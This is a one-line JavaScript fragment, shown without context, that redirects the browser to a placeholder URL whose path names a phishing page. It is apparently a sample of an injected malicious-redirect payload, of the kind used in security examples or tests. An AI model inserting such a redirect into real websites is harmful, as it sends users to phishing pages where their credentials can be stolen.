window.location.href = 'http://example.com/phish';
